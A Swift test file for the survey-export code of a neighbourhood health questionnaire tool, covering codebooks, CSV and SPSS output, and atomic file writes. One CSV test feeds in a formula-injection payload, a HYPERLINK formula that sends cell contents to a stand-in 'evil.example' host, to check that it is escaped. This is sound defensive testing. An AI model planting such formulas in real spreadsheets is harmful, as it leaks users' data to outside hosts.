import Foundation
import Testing
import WijkwebFiles
import WijkwebCore
@testable import WijkwebReports

/// The pure pieces of the exports: variable names, day rounding, the codebook and the rows.
@Suite struct ExportTests {
  static func questionnaire() throws -> Questionnaire {
    let url = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
      .appendingPathComponent("Questionnaires/positieve-gezondheid-wijk.yaml")
    return try QuestionnaireParser.parse(try String(contentsOf: url, encoding: .utf8), source: url.path)
  }

  static let areas = [
    Area(code: "GM1", level: .gemeente, name: "Stad", parentCode: nil),
    Area(code: "GB1", level: .gebied, name: "Noord", parentCode: "GM1"),
    Area(code: "WK1", level: .wijk, name: "Oud-Noord", parentCode: "GB1"),
    Area(code: "BU1", level: .buurt, name: "Hoek", parentCode: "WK1"),
    Area(code: "WK2", level: .wijk, name: "Dorp", parentCode: "GM1"),
  ]

  @Test func variableNamesAreValidAndUnique() {
    #expect(VariableNames.sanitize("h-lf-1") == "h_lf_1")
    #expect(VariableNames.sanitize("2e-vraag") == "v_2e_vraag")
    #expect(VariableNames.sanitize("Leeftijd (jaren)") == "leeftijd__jaren")
    #expect(VariableNames.sanitize("with") == "v_with")
    #expect(VariableNames.sanitize("é") == "v")
    #expect(VariableNames.sanitize(String(repeating: "a", count: 80)).count == 64)
    var names = VariableNames()
    #expect(names.unique("age") == "age")
    #expect(names.unique("AGE") == "age_2")
    #expect(names.unique("age") == "age_3")
  }

  @Test func timestampsAreRoundedToTheDay() {
    #expect(CalendarDay.daysFromCivil(year: 1970, month: 1, day: 1) == 0)
    #expect(CalendarDay.daysFromCivil(year: 2000, month: 3, day: 1) == 11_017)
    #expect(CalendarDay.epochSeconds("2026-11-23T14:05:09Z") == 1_795_442_709)
    #expect(CalendarDay.epochSeconds("2026-11-23T15:05:09+01:00") == 1_795_442_709)
    #expect(CalendarDay.epochSeconds("2026-11-23T14:05:09.250Z") == 1_795_442_709)
    #expect(CalendarDay.epochSeconds("2026-13-23T14:05:09Z") == nil)
    #expect(CalendarDay.epochSeconds("gisteren") == nil)
    var days = ExportDay(timeZone: .current)
    // Noon UTC is the same calendar day in every time zone from UTC-11 to UTC+11.
    #expect(days.day(of: "2026-11-23T12:00:00Z") == "2026-11-23")
    #expect(days.day(of: "2026-11-23") == "2026-11-23")
    #expect(days.day(of: "") == nil)
  }

  @Test func timestampsFollowTheGivenTimeZone() throws {
    var days = ExportDay(timeZone: try #require(TimeZone(identifier: "Europe/Amsterdam")))
    // 23:30 UTC is already the next day in Amsterdam (UTC+1 in November).
    #expect(days.day(of: "2026-11-23T23:30:00Z") == "2026-11-24")
    #expect(days.day(of: "2026-11-23T22:30:00Z") == "2026-11-23")
  }

  @Test func codebookHasEveryColumnWithLabelsInBothLanguages() throws {
    let questionnaire = try Self.questionnaire()
    let codebook = CodebookBuilder.build(questionnaire: questionnaire, round: "Najaar", areas: Self.areas)
    let names = codebook.variables.map(\.name)
    #expect(Array(names.prefix(9)) == [
      "response_id", "round", "questionnaire_id", "questionnaire_version", "gemeente", "gebied", "wijk", "buurt", "completed_on",
    ])
    #expect(names.count == Set(names).count)
    let items = codebook.variables.filter { $0.kind == .item }
    #expect(items.count == questionnaire.allItems.count)
    #expect(codebook.variables.filter { $0.kind == .score }.count == questionnaire.parts.count * 6)
    #expect(codebook.variables.filter { $0.kind == .demographic }.map(\.name) == questionnaire.demographics.map(\.id))
    #expect(!codebook.variables.contains { $0.kind == .text })
    let first = try #require(items.first)
    #expect(first.name == "h_lf_1")
    #expect(first.source == "h-lf-1")
    #expect(first.text?.nl == questionnaire.allItems[0].text.text(.dutch))
    #expect(first.text?.en == questionnaire.allItems[0].text.text(.english))
    #expect(first.missingValues == [99])
    #expect(first.valueLabels.map(\.code) == ["0", "10", "99"])
    #expect(first.valueLabels.last?.label.nl == "weet niet / niet van toepassing")
    let wijk = try #require(codebook.variables.first { $0.name == "wijk" })
    // Areas are numbers (the digits of their codes) with the code and name as label, -2 user-missing.
    #expect(wijk.type == .integer)
    #expect(wijk.valueLabels.map(\.code) == ["1", "2", "-2"])
    #expect(wijk.valueLabels.first?.label.nl.hasPrefix("WK1 ") == true)
    #expect(wijk.missingValues == [Codebook.notAnsweredCode])
    // Demographics: 1, 2, ... in the questionnaire's order, -1 "zeg ik liever niet" and -2 unanswered.
    let age = try #require(codebook.variables.first { $0.name == "age" })
    let ageQuestion = try #require(questionnaire.demographics.first { $0.id == "age" })
    #expect(age.type == .integer)
    #expect(Array(age.valueLabels.prefix(ageQuestion.choices.count)).map(\.label.nl) == ageQuestion.choices.map { $0.label.text(.dutch) })
    #expect(age.valueLabels.first?.code == "1")
    #expect(age.valueLabels.contains { $0.code == "-2" && $0.label.en == "not answered" })
    #expect(age.missingValues.contains(Codebook.notAnsweredCode))
    if ageQuestion.preferNotToSay {
      #expect(age.valueLabels.contains { $0.code == "-1" && $0.label.nl == "zeg ik liever niet" })
      #expect(age.missingValues == [Codebook.preferNotToSayCode, Codebook.notAnsweredCode])
    }
    #expect(codebook.variables.allSatisfy { !$0.label.nl.isEmpty && !$0.label.en.isEmpty })
    #expect(names.contains("health_lichaamsfuncties") && names.contains("neighbourhood_dagelijks_functioneren"))

    let withText = CodebookBuilder.build(questionnaire: questionnaire, round: "Najaar", areas: Self.areas, textWidths: ["matters": 42])
    let texts = withText.variables.filter { $0.kind == .text }
    #expect(texts.count == questionnaire.reflection.count)
    #expect(texts.first?.name == "text_matters")
    #expect(texts.first?.width == 42)
    #expect(texts.last?.width == 1)
  }

  @Test func rowsDecodePackedAnswersAreasAndScores() throws {
    let questionnaire = try Self.questionnaire()
    let codebook = CodebookBuilder.build(questionnaire: questionnaire, round: "Najaar", areas: Self.areas, textWidths: ["matters": 10])
    var builder = ResponseRowBuilder(codebook: codebook, questionnaire: questionnaire, areas: Self.areas)
    let packed = "X-.5" + String(repeating: "7", count: questionnaire.allItems.count - 4)
    var scores: [[Double?]] = Array(repeating: Array(repeating: 7, count: 6), count: questionnaire.parts.count)
    scores[0][0] = 7.5
    scores[0][1] = nil
    let record = ResponseRecord(
      id: "abc", areaCode: "BU1", completedAt: "2026-11-23T12:00:00Z", packedAnswers: packed,
      packedDemographics: "age=25-44;sex=", partScores: scores, texts: ["matters": "Mijn kleinkinderen"])
    let row = builder.values(record)
    #expect(row.count == codebook.variables.count)
    let value = { (name: String) -> ExportValue? in
      codebook.variables.firstIndex { $0.name == name }.map { row[$0] }
    }
    #expect(value("response_id") == .text("abc"))
    #expect(value("round") == .text("Najaar"))
    #expect(value("questionnaire_version") == .integer(questionnaire.version))
    #expect(value("gemeente") == .integer(1))
    #expect(value("gebied") == .integer(1))
    #expect(value("wijk") == .integer(1))
    #expect(value("buurt") == .integer(1))
    #expect(value("completed_on") == .day("2026-11-23"))
    let ageChoice = try #require(questionnaire.demographics.first { $0.id == "age" }?.choices.firstIndex { $0.id == "25-44" })
    #expect(value("age") == .integer(ageChoice + 1))
    #expect(value("sex") == .integer(Codebook.preferNotToSayCode), "an empty choice is zeg ik liever niet")
    #expect(value("household") == .integer(Codebook.notAnsweredCode), "a question not in the packed answers was not answered")
    #expect(value("h_lf_1") == .integer(10))
    #expect(value("h_lf_2") == .integer(99))
    #expect(value("h_lf_3") == .missing)
    #expect(value("h_lf_4") == .integer(5))
    #expect(value("health_lichaamsfuncties") == .decimal(7.5))
    #expect(value("health_mentaal_welbevinden") == .missing)
    #expect(value("text_matters") == .text("Mijn kleinkinderen"))
    #expect(value("text_change") == .missing)

    let village = builder.values(ResponseRecord(id: "d", areaCode: "WK2", completedAt: nil, packedAnswers: "", packedDemographics: "",
                                                partScores: []))
    let gebied = try #require(codebook.variables.firstIndex { $0.name == "gebied" })
    #expect(village[gebied] == .integer(Codebook.notAnsweredCode))
    #expect(village[gebied + 1] == .integer(2))
  }

  @Test func csvQuotesOnlyWhatNeedsIt() {
    #expect(ResponsesCSV.escape("plain") == "plain")
    #expect(ResponsesCSV.escape("a, b") == "\"a, b\"")
    #expect(ResponsesCSV.escape("zei \"ja\"") == "\"zei \"\"ja\"\"\"")
    #expect(ResponsesCSV.escape("regel\nregel") == "\"regel\nregel\"")
    // The formula rule: every field starting like a formula gets a quote in front, then RFC 4180 quoting.
    #expect(ResponsesCSV.escape("=2+3") == "'=2+3")
    #expect(ResponsesCSV.escape("=HYPERLINK(\"http://evil.example/?id=\"&A2,\"Meer info\")")
      == "\"'=HYPERLINK(\"\"http://evil.example/?id=\"\"&A2,\"\"Meer info\"\")\"")
    for start in ["+", "-", "@", "\t"] { #expect(ResponsesCSV.escape(start + "1") == "'" + start + "1") }
    #expect(ResponsesCSV.escape("\rx") == "\"'\rx\"")
    #expect(ResponsesCSV.escape("a=b") == "a=b")
    #expect(ResponsesCSV.escape("") == "")
    #expect(ResponsesCSV.codebookPath(for: "/tmp/uit.csv") == "/tmp/uit-codebook.csv")
    #expect(ResponsesCSV.codebookPath(for: "uit") == "uit-codebook.csv")
    #expect(ExportValue.decimal(7.0).plain == "7.0")
    #expect(ExportValue.integer(99).plain == "99")
  }

  @Test func codebookCSVHasOneRowPerVariable() throws {
    let codebook = CodebookBuilder.build(questionnaire: try Self.questionnaire(), round: "Najaar", areas: Self.areas)
    let lines = CodebookCSV.render(codebook).split(separator: "\n")
    #expect(lines.first == Substring(CodebookCSV.columns.joined(separator: ",")))
    #expect(lines.count == codebook.variables.count + codebook.notes.count + 1, "a row per variable, then the notes")
    #expect(lines.contains { $0.hasPrefix("h_lf_1,item,integer,") && $0.contains("99=weet niet / niet van toepassing") && $0.hasSuffix(",99") })
  }

  @Test func codebookNotesSayTheRulesInEveryFormat() throws {
    let questionnaire = try Self.questionnaire()
    let codebook = CodebookBuilder.build(questionnaire: questionnaire, round: "Najaar", areas: Self.areas)
    let notes = Dictionary(uniqueKeysWithValues: codebook.notes.map { ($0.key, $0.text) })
    #expect(notes["questionnaire"]?.en.contains(questionnaire.contentHash) == true)
    let percent = Int((questionnaire.scoring.minAnsweredShare * 100).rounded())
    #expect(notes["scoring"]?.en.contains("Empty when fewer than \(percent)%") == true)
    #expect(notes["missing_codes"]?.nl.contains("-1 = zeg ik liever niet") == true)
    #expect(notes["methods"]?.en.contains("Hyndman & Fan type 7") == true)
    // What a reader can conclude from a protected figure, the weighted percentiles and each comparison's method.
    for phrase in ["Weighted percentiles", "cell-key method", "within 2 of the true number", "10 × the largest weight",
                   "rest of its municipality", "rest of its parent area", "under its own minimum"] {
      #expect(notes["methods"]?.en.contains(phrase) == true, "\(phrase)")
    }
    for phrase in ["Gewogen percentielen", "cell-key-methode", "rest van zijn gemeente", "geneste steekproeven"] {
      #expect(notes["methods"]?.nl.contains(phrase) == true, "\(phrase)")
    }
    #expect(notes["csv_formulas"]?.en.contains("=, +, -, @") == true)
    #expect(notes["areas"]?.en.contains("gebied = area, wijk = district, buurt = neighbourhood") == true)
    let csv = CodebookCSV.render(codebook)
    #expect(csv.contains("note_scoring,note,,"))
    // The level names of the codebook are the report's.
    #expect(codebook.variables.first { $0.name == "wijk" }?.label.en == "District (wijk, code)")
    #expect(AreaLevel.wijk.name(in: .english) == "district" && AreaLevel.buurt.name(in: .english) == "neighbourhood")
    // SPSS document lines are at most 80 bytes, broken at spaces, and lose no word.
    let text = try #require(notes["scoring"]?.nl) + " " + String(repeating: "x", count: 200)
    let lines = ResponsesSAV.documentLines(text)
    #expect(lines.allSatisfy { $0.utf8.count <= 80 })
    #expect(lines.joined(separator: " ").replacingOccurrences(of: " ", with: "") == text.replacingOccurrences(of: " ", with: ""))
  }

  @Test func abandonedExportsLeaveNothingInTheFolder() throws {
    let folder = NSTemporaryDirectory() + "wijkweb-abandoned-\(UUID().uuidString)"
    try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
    defer { try? FileManager.default.removeItem(atPath: folder) }
    let codebook = CodebookBuilder.build(questionnaire: try Self.questionnaire(), round: "Najaar", areas: Self.areas)
    do {
      let file = try AtomicFile(path: folder + "/half.xlsx")
      let sink = try ResponsesXLSX(codebook: codebook, file: file)
      try sink.begin(rowCount: 1)
      let sav = try AtomicFile(path: folder + "/half.sav")
      let savSink = ResponsesSAV(codebook: codebook, file: sav)
      try savSink.begin(rowCount: 1)
    }
    #expect(try FileManager.default.contentsOfDirectory(atPath: folder).isEmpty, "a failed export leaves no temporary file")
  }

  @Test func spreadsheetColumnWidthsCountDigitsAsTheTextWouldHaveThem() {
    // The width of a whole number is counted without making its text: it must be the text's length.
    let values = [0, 1, 9, 10, 99, 100, 999, 1_000, 141_100, 1_048_576, 999_999_999_999_999, -1, -9, -10, -99, -100,
                  -141_100, Int.max, Int.min]
    for value in values + (0 ..< 2_000).map({ $0 * 7919 - 3_000_000 }) {
      #expect(XLSXSheet.characters(value) == String(value).count, "\(value)")
    }
  }

  @Test func areaNumbersAreTheDigitsOfTheCodesElseTheirPositions() {
    #expect(Codebook.areaNumbers(["WK001411", "WK001400", "WK001411"]) == ["WK001400": 1400, "WK001411": 1411])
    #expect(Codebook.areaNumbers(["BU00141100"]) == ["BU00141100": 141_100])
    // Codes without digits, or whose digits repeat, are numbered by their order.
    #expect(Codebook.areaNumbers(["Noord", "Zuid"]) == ["Noord": 1, "Zuid": 2])
    #expect(Codebook.areaNumbers(["A1", "B1"]) == ["A1": 1, "B1": 2])
    #expect(Codebook.areaNumbers(["X0", "X7"]) == ["X0": 1, "X7": 2])
  }

  @Test func savLabelsAreCutAtCharacterBoundariesAndDaysAreSPSSDates() {
    #expect(ResponsesSAV.truncated("kort", bytes: 10) == "kort")
    #expect(ResponsesSAV.truncated("ééé", bytes: 5) == "éé")
    #expect(ResponsesSAV.truncated("abcdef", bytes: 3) == "abc")
    #expect(ResponsesSAV.spssSeconds("1582-10-14") == 0)
    #expect(ResponsesSAV.spssSeconds("1970-01-01") == 12_219_379_200)
    #expect(ResponsesSAV.spssSeconds("2026-11-23") == Double(12_219_379_200 + 20_780 * 86_400))
    #expect(ResponsesSAV.spssSeconds("later") == nil)
  }

  @Test func destinationWritesOnlyWhenCommittedAndExplainsFolders() throws {
    let folder = NSTemporaryDirectory() + "wijkweb-export-\(getpid())-\(UInt32.random(in: 0 ... .max))"
    try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
    defer { try? FileManager.default.removeItem(atPath: folder) }
    let path = folder + "/uit.csv"
    do {
      let file = try AtomicFile(path: path, force: false)
      try file.write("half")
      try file.flush()
      #expect(!FileManager.default.fileExists(atPath: path))
      // Abandoned without commit: the temporary file goes, nothing appears.
    }
    #expect(try FileManager.default.contentsOfDirectory(atPath: folder).isEmpty)
    let destination = try AtomicFile(path: path, force: false)
    try "klaar".write(toFile: destination.temporaryPath, atomically: false, encoding: .utf8)
    try destination.commit()
    #expect(try String(contentsOfFile: path, encoding: .utf8) == "klaar")
    #expect(throws: FileError.self) { try AtomicFile(path: path, force: false) }
    #expect(throws: FileError.self) { try AtomicFile(path: folder + "/missing/uit.csv", force: false) }
    #expect(throws: FileError.self) { try AtomicFile(path: folder, force: false) }
    #expect(throws: FileError.self) { try AtomicFile(path: path + "/in-een-bestand.csv", force: false) }
    let again = try AtomicFile(path: path, force: true)
    try "nieuw".write(toFile: again.temporaryPath, atomically: false, encoding: .utf8)
    try again.commit()
    #expect(try String(contentsOfFile: path, encoding: .utf8) == "nieuw")
  }
}
